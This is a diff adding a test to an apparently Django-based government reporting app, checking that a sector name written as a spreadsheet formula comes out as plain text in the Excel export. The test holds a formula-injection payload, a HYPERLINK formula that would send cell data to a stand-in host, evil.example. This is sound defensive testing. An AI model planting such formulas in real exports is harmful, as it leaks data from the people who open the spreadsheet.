@@ -227,3 +227,21 @@ def test_only_leaders_of_the_agency_or_the_province_send(month_of_march, clock, 
     client.force_login(x.leader)  # another agency's leader does not see it
     assert j.agency.eid_code not in client.get("/bao-cao/bao-cao-quoc-gia/").content.decode()
     assert NationalSubmission.objects.count() == 1
+
+
+def test_a_sector_named_like_a_formula_is_exported_as_text(client, month_of_march):
+    from egov.catalog.inputs import procedure_input
+    from egov.catalog.services import procedure_update
+    from tests.catalog.conftest import raw_procedure
+
+    evil = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm")'
+    j, _x = month_of_march
+    procedure_update(
+        actor=j.leader,
+        procedure=j.procedure,
+        data=procedure_input(raw_procedure(j.agency, code=j.procedure.code, sector=evil)),
+    )
+    client.force_login(j.leader)
+    ws = load_workbook(BytesIO(client.get("/bao-cao/tai-excel/?ky=month&tu=2026-03-01").content)).active
+    texts = [c.value for row in ws.iter_rows() for c in row if c.data_type == "s"]
+    assert evil in texts and not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
